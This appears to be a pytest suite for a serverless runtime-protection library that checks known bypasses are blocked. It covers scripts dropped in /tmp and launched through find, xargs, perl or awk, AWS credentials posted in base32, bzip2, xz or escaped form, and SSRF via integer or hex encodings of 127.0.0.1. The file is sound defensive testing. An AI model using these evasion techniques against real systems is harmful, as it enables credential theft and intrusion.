"""Issue 11, round 2: what an informed attacker got through, each blocked before its effect happened.

Sandbox persistence: a dropped script run through ``find -exec``, ``xargs``, a variable the shell
script set, a positional parameter, a relative operand in a denied working directory and
``/proc/self/cwd``; the marker file the script would create must not exist. Credential
exfiltration: the secret key or the session token in base32, bzip2, xz and per-character escapes;
the collector on 127.0.0.1 must receive nothing.
"""
from __future__ import annotations

import base64
import bz2
import http.client
import ipaddress
import lzma
import os
import socket
import struct
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import requests

from app_protect_lambda import protect
from app_protect_lambda.testing import LambdaContext, apigw_v1_event

from .network_support import TIMEOUT, LocalServer, install_resolver


@pytest.fixture
def dropped(tmp_path: Path) -> Iterator[tuple[Path, Path]]:
    """A script in a fresh folder under /tmp that creates a marker when it runs."""
    assert str(tmp_path).startswith("/tmp/")
    marker = tmp_path / "marker"
    script = tmp_path / "x"
    script.write_text(f"#!/bin/sh\ntouch {marker}\n")
    script.chmod(0o755)
    yield script, marker


def sandbox_handler(run: Callable[[], object]):
    @protect(policy={"mode": "off", "protections": {"sandbox_persistence": {"mode": "block"}}})
    def handler(event, context):
        run()
        return {"statusCode": 200}
    return handler


def run(argv, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run(argv, timeout=10, capture_output=True, **kwargs)


LAUNCHES: dict[str, Callable[[Path], Callable[[], object]]] = {
    "find -exec {}": lambda s: lambda: run(["find", str(s.parent), "-name", "x", "-exec", "{}", ";"]),
    "find -exec sh {}": lambda s: lambda: run(["find", str(s.parent), "-name", "x", "-exec", "sh", "{}", ";"]),
    "xargs on input=": lambda s: lambda: run(["xargs", "sh"], input=str(s).encode()),
    "echo | xargs in a shell": lambda s: lambda: run(f"echo {s} | xargs sh", shell=True),
    "a variable the script set": lambda s: lambda: run(f"D={s.parent}; $D/x", shell=True),
    "bash -c '\"$0\"' path": lambda s: lambda: run(["bash", "-c", '"$0"', str(s)]),
    "sh x in cwd=": lambda s: lambda: run(["sh", "x"], cwd=s.parent),
    "/proc/self/cwd/x": lambda s: lambda: run(["/proc/self/cwd/x"], cwd=s.parent),
}


@pytest.mark.parametrize("how", LAUNCHES)
def test_dropped_script_through_runners_is_blocked_before_it_runs(how: str, dropped, records) -> None:
    script, marker = dropped
    reply = sandbox_handler(LAUNCHES[how](script))(apigw_v1_event(), LambdaContext())
    assert reply["statusCode"] == 403
    assert not marker.exists()
    [record] = records.detections()
    assert record["protection"] == "sandbox_persistence" and record["rule"] == "sandbox.tmp-exec"


def test_installed_programs_over_files_in_tmp_pass(dropped, records) -> None:
    script, _marker = dropped
    (script.parent / "a.txt").write_text("a")

    def work() -> None:
        assert run(["find", str(script.parent), "-name", "*.txt", "-exec", "wc", "-c", "{}", ";"]).returncode == 0
        assert run(["xargs", "wc", "-c"], input=str(script.parent / "a.txt").encode()).returncode == 0
        assert run(f"D={script.parent}; ls $D && cat $D/a.txt", shell=True).returncode == 0
        assert run(["sh", "-c", "echo ok"], cwd=script.parent).returncode == 0

    assert sandbox_handler(work)(apigw_v1_event(), LambdaContext())["statusCode"] == 200
    assert records.detections() == []


@pytest.fixture
def collector() -> Iterator[LocalServer]:
    with LocalServer(body=b"thanks") as running:
        yield running


@pytest.fixture(autouse=True)
def resolver(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    return install_resolver(monkeypatch, {})


def _secret() -> bytes:
    return os.environ["AWS_SECRET_ACCESS_KEY"].encode()


ENCODINGS: dict[str, Callable[[], bytes]] = {
    "base32": lambda: base64.b32encode(_secret()),
    "base32 of the token, lower-case": lambda: base64.b32encode(os.environ["AWS_SESSION_TOKEN"].encode()).lower(),
    "bzip2": lambda: bz2.compress(_secret()),
    "xz": lambda: lzma.compress(b'{"k": "' + _secret() + b'"}'),
    "every byte percent-encoded": lambda: "".join(f"%{b:02X}" for b in _secret()).encode(),
    "HTML character references": lambda: "".join(f"&#{b};" for b in _secret()).encode(),
    "UTF-16": lambda: _secret().decode().encode("utf-16"),
}


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_encoded_credentials_never_reach_the_collector(encoding: str, collector: LocalServer, records) -> None:
    @protect(mode="block")
    def handler(event, context):
        requests.post(f"{collector.url}/c", data=ENCODINGS[encoding](), timeout=TIMEOUT)
        return {"statusCode": 200}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
    assert collector.requests == []
    [record] = records.detections()
    assert record["protection"] == "credential_exfiltration"


def test_escaped_and_compressed_benign_bodies_reach_the_collector(collector: LocalServer, records) -> None:
    bodies = [b"name=%E6%9D%B1%E4%BA%AC&q=100%25", bz2.compress(b"report " * 100), lzma.compress(b"{}"),
              base64.b32encode(b"a TOTP seed of our own")]

    @protect(mode="block")
    def handler(event, context):
        for body in bodies:
            requests.post(f"{collector.url}/c", data=body, timeout=TIMEOUT)
        return {"statusCode": 200}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 200
    assert [request["body"] for request in collector.requests] == bodies
    assert records.detections() == []


MORE_LAUNCHES: dict[str, Callable[[Path], Callable[[], object]]] = {
    "perl system()": lambda s: lambda: run(["perl", "-e", f'system("{s}")']),
    "awk system()": lambda s: lambda: run(["awk", f'BEGIN{{system("{s}")}}']),
}


@pytest.mark.parametrize("how", MORE_LAUNCHES)
def test_dropped_script_run_by_inline_code_is_blocked(how: str, dropped, records) -> None:
    script, marker = dropped
    reply = sandbox_handler(MORE_LAUNCHES[how](script))(apigw_v1_event(), LambdaContext())
    assert reply["statusCode"] == 403
    assert not marker.exists()
    assert [r["rule"] for r in records.detections()] == ["sandbox.tmp-exec"]


def _import_from(folder: Path) -> None:
    import sys

    sys.path.insert(0, str(folder))
    try:
        __import__("dropped_module_r2")
    finally:
        sys.path.remove(str(folder))
        sys.modules.pop("dropped_module_r2", None)


def _spec_load(folder: Path) -> None:
    import importlib.util

    spec = importlib.util.spec_from_file_location("dropped_r2", folder / "dropped_module_r2.py")
    assert spec is not None and spec.loader is not None
    spec.loader.exec_module(importlib.util.module_from_spec(spec))


def _run_path(folder: Path) -> None:
    import runpy

    runpy.run_path(str(folder / "dropped_module_r2.py"))


IN_PROCESS: dict[str, Callable[[Path], None]] = {
    "sys.path.insert then import": _import_from,
    "spec_from_file_location + exec_module": _spec_load,
    "runpy.run_path": _run_path,
}


@pytest.mark.parametrize("how", IN_PROCESS)
def test_python_code_dropped_in_tmp_never_runs_in_our_process(how: str, dropped, records) -> None:
    script, marker = dropped
    handler = sandbox_handler(lambda: IN_PROCESS[how](script.parent))  # init first: the file comes after
    (script.parent / "dropped_module_r2.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    reply = handler(apigw_v1_event(), LambdaContext())
    assert reply["statusCode"] == 403
    assert not marker.exists()
    assert [r["rule"] for r in records.detections()] == ["sandbox.tmp-load"]


def test_python_code_from_tmp_imported_at_init_or_allowed_passes(dropped, records) -> None:
    script, marker = dropped
    (script.parent / "dropped_module_r2.py").write_text(f"open({str(marker)!r}, 'w').close()\n")

    @protect(policy={"mode": "off", "protections": {"sandbox_persistence": {
        "mode": "block", "exec_allow_paths": [f"{script.parent}/**"]}}})
    def handler(event, context):
        _run_path(script.parent)  # a package unzipped to /tmp by the owner's choice, allowed
        return {"statusCode": 200}

    _spec_load(script.parent)  # outside an invocation (init): not judged
    assert marker.exists()
    marker.unlink()
    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 200
    assert marker.exists()
    assert records.detections() == []


CONVERSIONS: dict[str, tuple[str, Callable[[str], str]]] = {
    "inet_ntoa of an integer": ("2130706433", lambda v: socket.inet_ntoa(struct.pack("!I", int(v)))),
    "ip_address of an integer": ("2130706433", lambda v: str(ipaddress.ip_address(int(v)))),
    "hex bytes": ("7f000001", lambda v: socket.inet_ntoa(bytes.fromhex(v))),
    "octets joined with dots": ("127,0,0,1", lambda v: ".".join(v.split(","))),
    "ipv4_mapped": ("::ffff:7f00:1", lambda v: str(ipaddress.ip_address(v).ipv4_mapped)),
}


@pytest.mark.parametrize("how", CONVERSIONS)
def test_an_address_converted_from_an_input_never_reaches_the_service(how: str, records) -> None:
    value, convert = CONVERSIONS[how]
    with LocalServer() as internal:
        @protect(mode="block")
        def handler(event, context):
            connection = http.client.HTTPConnection(convert(event["queryStringParameters"]["ip"]), internal.port,
                                                    timeout=TIMEOUT)
            connection.request("GET", "/admin")
            return {"statusCode": 200, "body": connection.getresponse().read().decode()}

        reply = handler(apigw_v1_event(query={"ip": value}), LambdaContext())
    assert reply["statusCode"] == 403
    assert internal.untouched
    assert [r["rule"] for r in records.detections()] == ["ssrf.internal"]


def test_numbers_that_are_no_address_of_the_service_pass(records) -> None:
    with LocalServer() as internal:
        @protect(mode="block")
        def handler(event, context):
            connection = http.client.HTTPConnection("127.0.0.1", internal.port, timeout=TIMEOUT)
            connection.request("GET", f"/items?page={event['queryStringParameters']['page']}")
            return {"statusCode": 200, "body": connection.getresponse().read().decode()}

        reply = handler(apigw_v1_event(query={"page": "2", "range": "10-1", "id": "deadbeef"}), LambdaContext())
    assert reply["statusCode"] == 200 and reply["body"] == "internal-secret"
    assert records.detections() == []


def test_python_code_on_the_disk_before_init_is_not_dropped_code(dropped, records) -> None:
    # a checkout or a virtualenv under /tmp on a build machine: written before the sinks were instrumented
    script, marker = dropped
    module = script.parent / "dropped_module_r2.py"
    module.write_text(f"open({str(marker)!r}, 'w').close()\n")
    os.utime(module, (0, 0))
    reply = sandbox_handler(lambda: _run_path(script.parent))(apigw_v1_event(), LambdaContext())
    assert reply["statusCode"] == 200
    assert marker.exists()
    assert records.detections() == []
